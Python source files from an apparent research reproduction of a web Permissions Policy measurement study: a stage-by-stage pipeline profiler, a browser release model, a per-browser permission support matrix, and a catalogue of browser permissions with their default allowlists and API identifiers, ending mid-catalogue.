                             in sorted(self._counters.items()) if c.value},
                "gauges": {name: g.value for name, g
                           in sorted(self._gauges.items()) if g.value},
                "histograms": {name: h.summary() for name, h
                               in sorted(self._histograms.items()) if h.count},
            }

    def merge(self, snapshot: dict) -> None:
        """Fold a :meth:`snapshot` delta (e.g. from a worker process) in."""
        for name, value in snapshot.get("counters", {}).items():
            self.counter(name).inc(value)
        for name, value in snapshot.get("gauges", {}).items():
            self.gauge(name).set(value)
        for name, summary in snapshot.get("histograms", {}).items():
            self.histogram(name)._merge(summary)

    def reset(self) -> None:
        """Zero every metric, keeping the objects (cached handles stay
        valid)."""
        with self._lock:
            for group in (self._counters, self._gauges, self._histograms):
                for metric in group.values():
                    metric._reset()


#: The process-wide registry every instrumented component reports into.
REGISTRY = MetricsRegistry()


def enable_metrics() -> None:
    """Turn metric collection on (registry + fast-path gate together)."""
    global COUNTING
    REGISTRY.enabled = True
    COUNTING = True


def disable_metrics() -> None:
    """Turn metric collection off again (values are kept, not cleared)."""
    global COUNTING
    REGISTRY.enabled = False
    COUNTING = False
