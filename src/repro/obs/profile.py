"""Stage profiler: the whole pipeline, timed stage by stage.

:func:`profile_pipeline` runs generate → crawl → store → index → the four
headline analyses under full instrumentation (tracing + metrics) and
returns a :class:`PipelineProfile` — per-stage wall-clock timings, the
per-worker visit distribution, and a metrics snapshot — renderable as a
breakdown table (``repro profile``) or embeddable as JSON (the ``stages``
key of ``BENCH_crawl.json``).

The profiler leaves the spans it collected in :data:`~repro.obs.TRACER`
so callers can additionally export the Chrome trace (``--trace-out``).
This module imports the crawler and analysis layers — import it
explicitly (``repro.obs`` deliberately does not pull it in).
"""

from __future__ import annotations

import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

from repro.crawler.pool import STORE_BATCH_SIZE
from repro.obs import REGISTRY, TRACER, observed, span


@dataclass(frozen=True)
class StageTiming:
    """One pipeline stage's wall-clock share."""

    name: str
    seconds: float
    #: Free-form stage outcome ("20000 visits", "4 workers", …).
    detail: str = ""


@dataclass
class PipelineProfile:
    """Per-stage breakdown of one instrumented pipeline run."""

    site_count: int
    seed: int
    workers: int
    backend: str
    stages: list[StageTiming]
    visits_by_worker: dict[str, int]
    metrics: dict

    @property
    def total_seconds(self) -> float:
        return sum(stage.seconds for stage in self.stages)

    def to_json(self) -> dict:
        """JSON-serializable form (embedded in ``BENCH_*.json``)."""
        return {
            "site_count": self.site_count,
            "seed": self.seed,
            "workers": self.workers,
            "backend": self.backend,
            "total_seconds": self.total_seconds,
            "stages": [{"name": stage.name, "seconds": stage.seconds,
                        "detail": stage.detail} for stage in self.stages],
            "visits_by_worker": dict(sorted(self.visits_by_worker.items())),
            "metrics": self.metrics,
        }

    def render(self) -> str:
        """Human-readable breakdown table."""
        total = self.total_seconds or 1.0
        width = max(len(stage.name) for stage in self.stages)
        lines = [
            f"pipeline profile — {self.site_count} sites, seed {self.seed}, "
            f"{self.workers} workers, backend {self.backend}",
            "",
            f"{'stage'.ljust(width)}  {'seconds':>9}  {'share':>6}  detail",
        ]
        for stage in self.stages:
            lines.append(
                f"{stage.name.ljust(width)}  {stage.seconds:>9.3f}  "
                f"{stage.seconds / total:>5.1%}  {stage.detail}")
        lines.append(f"{'total'.ljust(width)}  {self.total_seconds:>9.3f}")
        if self.visits_by_worker:
            workers = ", ".join(
                f"{worker}={count}" for worker, count
                in sorted(self.visits_by_worker.items()))
            lines += ["", f"visits by worker: {workers}"]
        counters = self.metrics.get("counters", {})
        if counters:
            lines += ["", "counters:"]
            lines += [f"  {name} = {value}"
                      for name, value in counters.items()]
        histograms = self.metrics.get("histograms", {})
        if histograms:
            lines += ["", "histograms:"]
            lines += [f"  {name}: n={summary['count']} "
                      f"mean={summary['mean']:.3f} "
                      f"min={summary['min']:.3f} max={summary['max']:.3f}"
                      for name, summary in histograms.items()]
        return "\n".join(lines)


def profile_pipeline(site_count: int, *, seed: int = 2024, workers: int = 4,
                     backend: str = "auto",
                     store_path: "Path | str | None" = None
                     ) -> PipelineProfile:
    """Run the full pipeline once, instrumented, and time every stage.

    Stages: **generate** (materialise every site spec), **crawl** (a
    :class:`~repro.crawler.pool.CrawlerPool` run with telemetry),
    **store** (persist to SQLite — a temp file unless ``store_path``),
    **verify** (the integrity pass of ``repro verify-store`` over the rows
    just written — DESIGN.md §4g),
    **index** (build the shared :class:`~repro.analysis.index.DatasetIndex`)
    and one stage per headline analysis.  With ``backend="process"`` the
    generate stage only warms the parent's cache — workers regenerate
    their chunks, which shows up in the crawl stage as it does in real
    runs.

    Tracing and metrics are enabled for the duration and restored after;
    the collected spans stay in :data:`~repro.obs.TRACER` for export.
    """
    from repro.analysis.delegation import DelegationAnalysis
    from repro.analysis.headers import HeaderAnalysis
    from repro.analysis.index import DatasetIndex
    from repro.analysis.overpermission import OverPermissionAnalysis
    from repro.analysis.usage import UsageAnalysis
    from repro.crawler.pool import CrawlerPool
    from repro.crawler.storage import CrawlStore
    from repro.crawler.telemetry import CrawlTelemetry
    from repro.synthweb.generator import SyntheticWeb

    stages: list[StageTiming] = []

    def timed(name: str, fn, detail=lambda result: ""):
        with span(f"profile.{name}"):
            start = time.perf_counter()
            result = fn()
            seconds = time.perf_counter() - start
        stages.append(StageTiming(name, seconds, detail(result)))
        return result

    web = SyntheticWeb(site_count, seed=seed)
    pool = CrawlerPool(web, workers=workers, backend=backend)
    chosen = pool.resolved_backend()
    telemetry = CrawlTelemetry()

    tmp_dir: tempfile.TemporaryDirectory | None = None
    if store_path is None:
        tmp_dir = tempfile.TemporaryDirectory(prefix="repro-profile-")
        store_path = Path(tmp_dir.name) / "profile.sqlite"

    try:
        # observed(clear=True) wipes previously collected spans/metrics so
        # the profile stands alone; state is restored (not cleared) after,
        # leaving the trace in TRACER for --trace-out.
        with observed():
            with span("profile.pipeline", sites=site_count, seed=seed,
                      workers=workers, backend=chosen):
                timed("generate",
                      lambda: [web.site(rank) for rank in range(site_count)],
                      lambda sites: f"{len(sites)} site specs")
                dataset = timed(
                    "crawl",
                    lambda: pool.run(telemetry=telemetry),
                    lambda d: f"{d.attempted} visits, "
                              f"{d.successful_count} ok ({chosen})")
                timed("store",
                      lambda: _persist(CrawlStore, store_path, dataset),
                      lambda n: f"{n} visits -> {Path(store_path).name} "
                                f"(batched x{STORE_BATCH_SIZE})")
                timed("verify",
                      lambda: _verify(CrawlStore, store_path),
                      lambda r: f"{r.verified_rows}/{r.total_rows} rows "
                                f"checksummed, {len(r.corrupt)} corrupt")
                index = timed("index", lambda: DatasetIndex(dataset),
                              lambda i: f"{i.website_count} visits indexed")
                for name, analysis in (
                        ("analysis.usage", UsageAnalysis),
                        ("analysis.delegation", DelegationAnalysis),
                        ("analysis.headers", HeaderAnalysis),
                        ("analysis.overpermission", OverPermissionAnalysis)):
                    timed(name, lambda cls=analysis: cls(index))
    finally:
        if tmp_dir is not None:
            tmp_dir.cleanup()

    snap = telemetry.snapshot()
    return PipelineProfile(
        site_count=site_count, seed=seed, workers=workers, backend=chosen,
        stages=stages, visits_by_worker=dict(snap.visits_by_worker),
        metrics=REGISTRY.snapshot(),
    )


def _persist(store_cls, path, dataset) -> int:
    """Persist via the explicit batched-write path.

    ``save_visits(chunk_size=STORE_BATCH_SIZE)`` is the same batched
    transaction the crawl's writer thread uses (``save_dataset`` delegates
    to it), spelled out here so the profiled store stage visibly measures
    batched commits, not per-visit ones.
    """
    with store_cls(path) as store:
        store.save_visits(dataset.visits, chunk_size=STORE_BATCH_SIZE)
    return dataset.attempted


def _verify(store_cls, path):
    with store_cls(path) as store:
        return store.verify()


def write_trace(path: "Path | str", *, chrome: bool = True) -> Path:
    """Write the current trace to ``path`` (Chrome format by default)."""
    import json

    document = (TRACER.to_chrome_trace() if chrome else TRACER.to_tree())
    path = Path(path)
    path.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")
    return path
