"""Permission registry substrate.

The paper (Section 6.3, Figure 3) maintains a curated list of browser
permissions together with their characteristics: whether a permission is
*policy-controlled* (governed by the Permissions Policy specification and
hence carrying a default allowlist), whether it is *powerful* (requiring
explicit user consent via a prompt), and which browsers support it.

This subpackage is the in-repo equivalent of that curated list:

* :mod:`repro.registry.features` — the permission catalogue (Appendix A.4 of
  the paper plus the additional permissions appearing in its result tables),
  modelled as immutable :class:`~repro.registry.features.Permission` records
  collected in a :class:`~repro.registry.features.PermissionRegistry`.
* :mod:`repro.registry.browsers` — a model of browser engines and releases.
* :mod:`repro.registry.support` — the per-browser/per-version support matrix
  with history queries (the backing data of the paper's Figure 3 site).
"""

from repro.registry.browsers import (
    Browser,
    BrowserEngine,
    BrowserRelease,
    CHROMIUM,
    FIREFOX,
    SAFARI,
    default_releases,
)
from repro.registry.features import (
    DEFAULT_REGISTRY,
    DefaultAllowlist,
    Permission,
    PermissionCategory,
    PermissionRegistry,
    UnknownPermissionError,
)
from repro.registry.support import (
    SupportEntry,
    SupportMatrix,
    SupportStatus,
    default_support_matrix,
)

__all__ = [
    "Browser",
    "BrowserEngine",
    "BrowserRelease",
    "CHROMIUM",
    "FIREFOX",
    "SAFARI",
    "DEFAULT_REGISTRY",
    "DefaultAllowlist",
    "Permission",
    "PermissionCategory",
    "PermissionRegistry",
    "UnknownPermissionError",
    "SupportEntry",
    "SupportMatrix",
    "SupportStatus",
    "default_releases",
    "default_support_matrix",
]
