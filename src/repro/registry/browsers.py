"""Browser engine and release model.

The paper's Figure 3 site tracks which permissions each browser supports and
how support changed across versions.  The automated tool behind it launches
major releases of Chromium, Firefox and Safari and probes each permission.
We cannot launch real browsers offline, so this module models the release
timeline; :mod:`repro.registry.support` encodes the probed support data.

The model is deliberately simple: a browser is identified by name and engine,
and a release is a ``(browser, major-version, date)`` triple.  Versions are
compared numerically by major version, which is how the support matrix keys
its ranges.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass
from enum import Enum


class BrowserEngine(str, Enum):
    """Rendering engine families relevant to Permissions Policy support."""

    BLINK = "blink"
    GECKO = "gecko"
    WEBKIT = "webkit"


@dataclass(frozen=True)
class Browser:
    """A browser product (e.g. Chromium) built on an engine."""

    name: str
    engine: BrowserEngine

    #: Whether the browser enforces the ``Permissions-Policy`` header.  Per
    #: paper Section 2.2.6, only Chromium-based browsers do at measurement
    #: time; all major browsers partly support the ``allow`` attribute.
    @property
    def supports_permissions_policy_header(self) -> bool:
        return self.engine is BrowserEngine.BLINK

    @property
    def supports_allow_attribute(self) -> bool:
        return True

    @property
    def supports_feature_policy_header(self) -> bool:
        """Legacy ``Feature-Policy`` header support (Blink keeps enforcing it
        when no ``Permissions-Policy`` header is present)."""
        return self.engine is BrowserEngine.BLINK


@dataclass(frozen=True, order=True)
class BrowserRelease:
    """A dated major release of a browser."""

    browser: Browser
    major_version: int
    release_date: _dt.date

    def __str__(self) -> str:
        return f"{self.browser.name} {self.major_version}"


CHROMIUM = Browser("Chromium", BrowserEngine.BLINK)
FIREFOX = Browser("Firefox", BrowserEngine.GECKO)
SAFARI = Browser("Safari", BrowserEngine.WEBKIT)

ALL_BROWSERS: tuple[Browser, ...] = (CHROMIUM, FIREFOX, SAFARI)


def _releases(browser: Browser, entries: list[tuple[int, str]]) -> list[BrowserRelease]:
    return [
        BrowserRelease(browser, version, _dt.date.fromisoformat(date))
        for version, date in entries
    ]


def default_releases() -> tuple[BrowserRelease, ...]:
    """Release timeline used by the default support matrix.

    Covers the window the paper's tool tracks, ending at Chromium 127 —
    the version used for the measurement crawl (Appendix A.2, C13).
    """
    releases: list[BrowserRelease] = []
    releases += _releases(CHROMIUM, [
        (80, "2020-02-04"), (88, "2021-01-19"), (90, "2021-04-14"),
        (96, "2021-11-15"), (100, "2022-03-29"), (108, "2022-11-29"),
        (115, "2023-07-12"), (120, "2023-12-06"), (124, "2024-04-16"),
        (127, "2024-07-23"),
    ])
    releases += _releases(FIREFOX, [
        (74, "2020-03-10"), (84, "2020-12-15"), (95, "2021-12-07"),
        (102, "2022-06-28"), (115, "2023-07-04"), (121, "2023-12-19"),
        (128, "2024-07-09"),
    ])
    releases += _releases(SAFARI, [
        (13, "2019-09-19"), (14, "2020-09-16"), (15, "2021-09-20"),
        (16, "2022-09-12"), (17, "2023-09-18"),
    ])
    return tuple(sorted(releases, key=lambda r: (r.browser.name, r.major_version)))


def releases_for(browser: Browser, releases: tuple[BrowserRelease, ...] | None = None
                 ) -> tuple[BrowserRelease, ...]:
    """All known releases of ``browser``, ascending by version."""
    pool = default_releases() if releases is None else releases
    return tuple(r for r in pool if r.browser == browser)
