"""Per-browser permission support matrix.

This is the data model behind the paper's Figure 3 website: for every
permission and every browser release, whether the permission is supported,
whether it is policy-controlled there, and what its default allowlist is.
The paper generates this automatically by probing real browsers; we encode a
support table with "supported since major version" ranges per engine, which
yields the same query surface:

* current support of a permission per browser,
* historical changes across versions (when support appeared/disappeared),
* the caniuse-style matrix rendered by :mod:`repro.tools.support_site`.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Iterable, Iterator, Mapping

from repro.registry.browsers import (
    ALL_BROWSERS,
    Browser,
    BrowserEngine,
    BrowserRelease,
    CHROMIUM,
    default_releases,
)
from repro.registry.features import (
    DEFAULT_REGISTRY,
    Permission,
    PermissionRegistry,
)


class SupportStatus(str, Enum):
    """Support verdict for (permission, browser release)."""

    SUPPORTED = "supported"
    UNSUPPORTED = "unsupported"
    REMOVED = "removed"


@dataclass(frozen=True)
class SupportEntry:
    """Support range of a permission on one engine.

    ``since`` is the first major version supporting the permission;
    ``until`` (exclusive) marks removal for features that were pulled again
    (e.g. ``interest-cohort``).  ``None`` for ``since`` means never
    supported on that engine.
    """

    engine: BrowserEngine
    since: int | None
    until: int | None = None

    def status_at(self, major_version: int) -> SupportStatus:
        if self.since is None or major_version < self.since:
            return SupportStatus.UNSUPPORTED
        if self.until is not None and major_version >= self.until:
            return SupportStatus.REMOVED
        return SupportStatus.SUPPORTED


def _ranges(blink: int | None, gecko: int | None, webkit: int | None,
            *, blink_until: int | None = None) -> tuple[SupportEntry, ...]:
    return (
        SupportEntry(BrowserEngine.BLINK, blink, blink_until),
        SupportEntry(BrowserEngine.GECKO, gecko),
        SupportEntry(BrowserEngine.WEBKIT, webkit),
    )


#: Support ranges per permission.  Values mirror the broad strokes of real
#: browser history (Blink ships Permissions-Policy-era features early and
#: broadly; Gecko and WebKit support the classic powerful features but few
#: of the newer ads/device APIs).  Permissions missing from this table get a
#: Blink-only default starting at version 88 (when Permissions-Policy
#: shipped).
_SUPPORT_TABLE: Mapping[str, tuple[SupportEntry, ...]] = {
    "camera": _ranges(80, 74, 13),
    "microphone": _ranges(80, 74, 13),
    "geolocation": _ranges(80, 74, 13),
    "notifications": _ranges(80, 74, 13),
    "push": _ranges(80, 74, 16),
    "fullscreen": _ranges(80, 74, 13),
    "autoplay": _ranges(80, 74, 13),
    "picture-in-picture": _ranges(80, None, 13),
    "encrypted-media": _ranges(80, 74, 13),
    "gamepad": _ranges(80, 74, 13),
    "midi": _ranges(80, None, None),
    "battery": _ranges(80, None, None),
    "usb": _ranges(80, None, None),
    "serial": _ranges(90, None, None),
    "hid": _ranges(90, None, None),
    "bluetooth": _ranges(80, None, None),
    "accelerometer": _ranges(80, None, None),
    "gyroscope": _ranges(80, None, None),
    "magnetometer": _ranges(80, None, None),
    "ambient-light-sensor": _ranges(80, None, None),
    "clipboard-read": _ranges(80, 127, 13),
    "clipboard-write": _ranges(80, 74, 13),
    "web-share": _ranges(88, 102, 13),
    "payment": _ranges(80, None, 15),
    "storage-access": _ranges(115, 102, 15),
    "top-level-storage-access": _ranges(115, None, None),
    "screen-wake-lock": _ranges(88, None, 16),
    "system-wake-lock": _ranges(96, None, None),
    "idle-detection": _ranges(96, None, None),
    "keyboard-lock": _ranges(80, None, None),
    "keyboard-map": _ranges(80, None, None),
    "pointer-lock": _ranges(80, 74, 13),
    "local-fonts": _ranges(108, None, None),
    "window-management": _ranges(100, None, None),
    "xr-spatial-tracking": _ranges(80, None, None),
    "vr": (SupportEntry(BrowserEngine.BLINK, 80, 90),) + _ranges(None, None, None)[1:],
    "compute-pressure": _ranges(124, None, None),
    "direct-sockets": _ranges(124, None, None),
    "speaker-selection": _ranges(None, 115, None),
    "browsing-topics": _ranges(115, None, None),
    "attribution-reporting": _ranges(115, None, None),
    "run-ad-auction": _ranges(115, None, None),
    "join-ad-interest-group": _ranges(115, None, None),
    "interest-cohort": _ranges(88, None, None, blink_until=96),
    "private-state-token-issuance": _ranges(115, None, None),
    "private-state-token-redemption": _ranges(115, None, None),
    "sync-xhr": _ranges(80, None, None),
    "cross-origin-isolated": _ranges(88, None, None),
    "document-domain": _ranges(80, None, None),
    "publickey-credentials-create": _ranges(108, None, None),
    "publickey-credentials-get": _ranges(88, None, 15),
    "identity-credentials-get": _ranges(108, None, None),
    "otp-credentials": _ranges(96, None, None),
}

_DEFAULT_BLINK_SINCE = 88


class SupportMatrix:
    """Queryable permission-support matrix across browser releases."""

    def __init__(
        self,
        registry: PermissionRegistry | None = None,
        releases: Iterable[BrowserRelease] | None = None,
        table: Mapping[str, tuple[SupportEntry, ...]] | None = None,
    ) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._releases = tuple(releases) if releases is not None else default_releases()
        self._table = dict(table) if table is not None else dict(_SUPPORT_TABLE)

    @property
    def registry(self) -> PermissionRegistry:
        return self._registry

    @property
    def releases(self) -> tuple[BrowserRelease, ...]:
        return self._releases

    def _entries_for(self, permission: str) -> tuple[SupportEntry, ...]:
        self._registry.get(permission)  # raise for unknown names
        default = (
            SupportEntry(BrowserEngine.BLINK, _DEFAULT_BLINK_SINCE),
            SupportEntry(BrowserEngine.GECKO, None),
            SupportEntry(BrowserEngine.WEBKIT, None),
        )
        return self._table.get(permission, default)

    def status(self, permission: str, browser: Browser, major_version: int
               ) -> SupportStatus:
        """Support status of ``permission`` on ``browser`` at a version."""
        for entry in self._entries_for(permission):
            if entry.engine is browser.engine:
                return entry.status_at(major_version)
        return SupportStatus.UNSUPPORTED

    def supported(self, permission: str, browser: Browser, major_version: int) -> bool:
        return self.status(permission, browser, major_version) is SupportStatus.SUPPORTED

    def latest_release(self, browser: Browser) -> BrowserRelease:
        candidates = [r for r in self._releases if r.browser == browser]
        if not candidates:
            raise ValueError(f"no releases known for {browser.name}")
        return max(candidates, key=lambda r: r.major_version)

    def currently_supported(self, permission: str, browser: Browser) -> bool:
        """Support in the browser's most recent known release."""
        return self.supported(permission, browser,
                              self.latest_release(browser).major_version)

    def supported_anywhere(self, permission: str) -> bool:
        """Whether any browser's latest release supports the permission."""
        return any(self.currently_supported(permission, b) for b in ALL_BROWSERS)

    def history(self, permission: str, browser: Browser
                ) -> list[tuple[BrowserRelease, SupportStatus]]:
        """Per-release support statuses, ascending by version (Figure 3's
        "changes across browser versions" view)."""
        return [
            (release, self.status(permission, browser, release.major_version))
            for release in self._releases
            if release.browser == browser
        ]

    def changes(self, permission: str, browser: Browser
                ) -> list[tuple[BrowserRelease, SupportStatus]]:
        """Releases where the support status changed versus the previous one."""
        out: list[tuple[BrowserRelease, SupportStatus]] = []
        previous: SupportStatus | None = None
        for release, status in self.history(permission, browser):
            if status is not previous:
                out.append((release, status))
                previous = status
        return out

    def chromium_supported_permissions(self) -> tuple[Permission, ...]:
        """Policy-controlled permissions supported by current Chromium — the
        set the paper's header generator (Figure 4) builds headers from."""
        return tuple(
            perm for perm in self._registry.policy_controlled()
            if self.currently_supported(perm.name, CHROMIUM)
        )

    def matrix(self) -> Iterator[tuple[Permission, dict[str, bool]]]:
        """Yield (permission, {browser name: currently supported}) rows."""
        for perm in self._registry:
            yield perm, {
                browser.name: self.currently_supported(perm.name, browser)
                for browser in ALL_BROWSERS
            }


def default_support_matrix() -> SupportMatrix:
    """The support matrix over the default registry and release timeline."""
    return SupportMatrix()
