"""The permission catalogue.

The Permissions Policy specification requires every policy-controlled feature
to define a *default allowlist* deciding in which browsing contexts the
feature is available when neither a ``Permissions-Policy`` header nor an
iframe ``allow`` attribute says otherwise (paper Section 2.2.1).  Two values
exist in the specification:

* ``self`` — the feature is available in the top-level document and
  same-origin child frames only;
* ``*`` — the feature is available in every context, including arbitrarily
  nested cross-origin iframes.

Independently of policy control, the W3C Permissions specification classifies
some features as *powerful*: using them requires explicit user consent,
usually through a prompt (paper Section 2.1).  The two taxonomies do not
coincide — the paper's Table 2 stresses, for example, that ``gamepad`` is
policy-controlled but not powerful while ``notifications`` is powerful but
not policy-controlled.

This module encodes the full list of permissions instrumented by the paper
(Appendix A.4) plus every permission that appears in its result tables
(e.g. ``attribution-reporting``, ``run-ad-auction``, ``autoplay``), each with
its characteristics and the Web API identifiers used by the static and
dynamic analyses to recognise it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Iterable, Iterator


class UnknownPermissionError(KeyError):
    """Raised when a permission name is not present in a registry."""

    def __init__(self, name: str) -> None:
        super().__init__(name)
        self.name = name

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return f"unknown permission: {self.name!r}"


class DefaultAllowlist(str, Enum):
    """Default allowlist of a policy-controlled feature (spec Section 9.1)."""

    SELF = "self"
    STAR = "*"


class PermissionCategory(str, Enum):
    """Functional grouping used by the delegation analysis (paper 4.2.1)."""

    MEDIA = "media"
    SENSOR = "sensor"
    ADS = "ads"
    PAYMENT = "payment"
    IDENTITY = "identity"
    STORAGE = "storage"
    DEVICE = "device"
    UI = "ui"
    CLIENT_HINT = "client-hint"
    OTHER = "other"


@dataclass(frozen=True)
class Permission:
    """A single browser permission / policy-controlled feature.

    Attributes:
        name: Canonical feature token as used in headers and ``allow``
            attributes (e.g. ``"camera"``).
        policy_controlled: Whether the Permissions Policy governs the feature.
            Only policy-controlled features have a default allowlist and can
            be delegated to iframes.
        powerful: Whether the feature is a *powerful feature* in the sense of
            the Permissions specification (i.e. gated on user consent).
        default_allowlist: ``SELF`` or ``STAR`` for policy-controlled
            features, ``None`` otherwise.
        category: Functional grouping used when clustering delegations.
        api_patterns: JavaScript identifiers whose presence in script source
            indicates functionality for this permission.  These drive both
            the static string-matching analysis and the names under which the
            dynamic instrumentation registers its wrappers.
        spec: Short name of the defining specification.
        deprecated: Whether the feature is deprecated (e.g. Topics API
            competitors or ``interest-cohort``).
        aliases: Alternative feature tokens accepted in headers.
        instrumented: Whether the paper's crawler instruments this
            permission's APIs (the Appendix A.4 list).  Non-instrumented
            permissions (autoplay, fullscreen, picture-in-picture, the ads
            APIs, client hints, …) appear in delegation and header analyses
            but can never show usage — which is also why the over-permission
            detector must not declare them "unused".
    """

    name: str
    policy_controlled: bool
    powerful: bool
    default_allowlist: DefaultAllowlist | None
    category: PermissionCategory
    api_patterns: tuple[str, ...] = ()
    spec: str = ""
    deprecated: bool = False
    aliases: tuple[str, ...] = ()
    instrumented: bool = True

    def __post_init__(self) -> None:
        if self.policy_controlled and self.default_allowlist is None:
            raise ValueError(
                f"policy-controlled permission {self.name!r} needs a default allowlist"
            )
        if not self.policy_controlled and self.default_allowlist is not None:
            raise ValueError(
                f"permission {self.name!r} is not policy-controlled and must not "
                "declare a default allowlist"
            )

    @property
    def delegatable(self) -> bool:
        """Whether the permission can be delegated via the ``allow`` attribute."""
        return self.policy_controlled


def _p(
    name: str,
    *,
    policy: bool = True,
    powerful: bool = False,
    default: str | None = "self",
    category: PermissionCategory = PermissionCategory.OTHER,
    apis: Iterable[str] = (),
    spec: str = "",
    deprecated: bool = False,
    aliases: Iterable[str] = (),
    instrumented: bool = True,
) -> Permission:
    allowlist: DefaultAllowlist | None
    if not policy:
        allowlist = None
    elif default == "*":
        allowlist = DefaultAllowlist.STAR
    else:
        allowlist = DefaultAllowlist.SELF
    return Permission(
        name=name,
        policy_controlled=policy,
        powerful=powerful,
        default_allowlist=allowlist,
        category=category,
        api_patterns=tuple(apis),
        spec=spec,
        deprecated=deprecated,
        aliases=tuple(aliases),
        instrumented=instrumented,
    )


#: The catalogue.  Appendix A.4 of the paper lists the instrumented
#: permissions; the extra entries below it appear in the paper's result
#: tables (ads APIs, client hints, legacy tokens) and are needed to
#: reproduce them.
_CATALOGUE: tuple[Permission, ...] = (
    # --- Sensors -----------------------------------------------------------
    _p("accelerometer", category=PermissionCategory.SENSOR,
       apis=("Accelerometer", "LinearAccelerationSensor"), spec="Generic Sensor"),
    _p("ambient-light-sensor", category=PermissionCategory.SENSOR,
       apis=("AmbientLightSensor",), spec="Ambient Light Sensor"),
    _p("gyroscope", category=PermissionCategory.SENSOR,
       apis=("Gyroscope",), spec="Generic Sensor"),
    _p("magnetometer", category=PermissionCategory.SENSOR,
       apis=("Magnetometer",), spec="Generic Sensor"),
    _p("compute-pressure", category=PermissionCategory.SENSOR,
       apis=("PressureObserver",), spec="Compute Pressure"),
    # --- Media -------------------------------------------------------------
    _p("camera", powerful=True, category=PermissionCategory.MEDIA,
       apis=("getUserMedia", "navigator.mediaDevices"), spec="Media Capture and Streams"),
    _p("microphone", powerful=True, category=PermissionCategory.MEDIA,
       apis=("getUserMedia", "navigator.mediaDevices"), spec="Media Capture and Streams"),
    _p("display-capture", powerful=True, category=PermissionCategory.MEDIA,
       apis=("getDisplayMedia",), spec="Screen Capture"),
    _p("speaker-selection", category=PermissionCategory.MEDIA,
       apis=("selectAudioOutput",), spec="Audio Output Devices"),
    _p("encrypted-media", category=PermissionCategory.MEDIA,
       apis=("requestMediaKeySystemAccess",), spec="Encrypted Media Extensions"),
    _p("autoplay", instrumented=False, category=PermissionCategory.MEDIA,
       apis=("HTMLMediaElement.play",), spec="HTML"),
    _p("picture-in-picture", instrumented=False, default="*", category=PermissionCategory.MEDIA,
       apis=("requestPictureInPicture",), spec="Picture-in-Picture"),
    _p("fullscreen", instrumented=False, category=PermissionCategory.UI,
       apis=("requestFullscreen",), spec="Fullscreen API"),
    # --- Location / identity -----------------------------------------------
    _p("geolocation", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.geolocation", "getCurrentPosition", "watchPosition"),
       spec="Geolocation API"),
    _p("identity-credentials-get", instrumented=False, category=PermissionCategory.IDENTITY,
       apis=("navigator.credentials.get",), spec="FedCM"),
    _p("otp-credentials", instrumented=False, category=PermissionCategory.IDENTITY,
       apis=("OTPCredential",), spec="WebOTP"),
    _p("publickey-credentials-create", category=PermissionCategory.IDENTITY,
       apis=("navigator.credentials.create", "PublicKeyCredential"), spec="WebAuthn"),
    _p("publickey-credentials-get", category=PermissionCategory.IDENTITY,
       apis=("navigator.credentials.get", "PublicKeyCredential"), spec="WebAuthn"),
    # --- Devices -----------------------------------------------------------
    _p("bluetooth", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.bluetooth", "requestDevice"), spec="Web Bluetooth"),
    _p("hid", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.hid",), spec="WebHID"),
    _p("serial", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.serial",), spec="Web Serial"),
    _p("usb", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.usb",), spec="WebUSB"),
    _p("gamepad", default="*", category=PermissionCategory.DEVICE,
       apis=("navigator.getGamepads",), spec="Gamepad"),
    _p("midi", powerful=True, category=PermissionCategory.DEVICE,
       apis=("requestMIDIAccess",), spec="Web MIDI"),
    _p("battery", default="*", category=PermissionCategory.DEVICE,
       apis=("navigator.getBattery", "BatteryManager"), spec="Battery Status"),
    _p("keyboard-lock", category=PermissionCategory.DEVICE,
       apis=("keyboard.lock",), spec="Keyboard Lock"),
    _p("keyboard-map", category=PermissionCategory.DEVICE,
       apis=("keyboard.getLayoutMap",), spec="Keyboard Map"),
    _p("pointer-lock", category=PermissionCategory.UI,
       apis=("requestPointerLock",), spec="Pointer Lock"),
    _p("local-fonts", powerful=True, category=PermissionCategory.DEVICE,
       apis=("queryLocalFonts",), spec="Local Font Access"),
    _p("window-management", powerful=True, category=PermissionCategory.UI,
       apis=("getScreenDetails",), spec="Window Management"),
    _p("xr-spatial-tracking", powerful=True, category=PermissionCategory.DEVICE,
       apis=("navigator.xr", "requestSession"), spec="WebXR"),
    _p("vr", instrumented=False, category=PermissionCategory.DEVICE, deprecated=True,
       apis=("navigator.getVRDisplays",), spec="WebVR (legacy)"),
    _p("screen-wake-lock", category=PermissionCategory.DEVICE,
       apis=("navigator.wakeLock",), spec="Screen Wake Lock"),
    _p("system-wake-lock", category=PermissionCategory.DEVICE,
       apis=("navigator.wakeLock.request",), spec="System Wake Lock"),
    _p("idle-detection", powerful=True, category=PermissionCategory.DEVICE,
       apis=("IdleDetector",), spec="Idle Detection"),
    _p("direct-sockets", category=PermissionCategory.DEVICE,
       apis=("TCPSocket", "UDPSocket"), spec="Direct Sockets"),
    # --- Storage / clipboard -----------------------------------------------
    _p("storage-access", powerful=True, default="*", category=PermissionCategory.STORAGE,
       apis=("document.requestStorageAccess", "document.hasStorageAccess"),
       spec="Storage Access API"),
    _p("top-level-storage-access", powerful=True, category=PermissionCategory.STORAGE,
       apis=("document.requestStorageAccessFor",), spec="Storage Access API"),
    _p("clipboard-read", powerful=True, category=PermissionCategory.STORAGE,
       apis=("navigator.clipboard.read", "navigator.clipboard.readText"),
       spec="Clipboard API"),
    _p("clipboard-write", category=PermissionCategory.STORAGE,
       apis=("navigator.clipboard.write", "navigator.clipboard.writeText"),
       spec="Clipboard API"),
    _p("web-share", category=PermissionCategory.UI,
       apis=("navigator.share", "navigator.canShare"), spec="Web Share"),
    # --- Notifications / push (powerful but NOT policy-controlled) ---------
    _p("notifications", policy=False, powerful=True, default=None,
       category=PermissionCategory.UI,
       apis=("Notification.requestPermission", "Notification.permission"),
       spec="Notifications API"),
    _p("push", policy=False, powerful=True, default=None,
       category=PermissionCategory.UI,
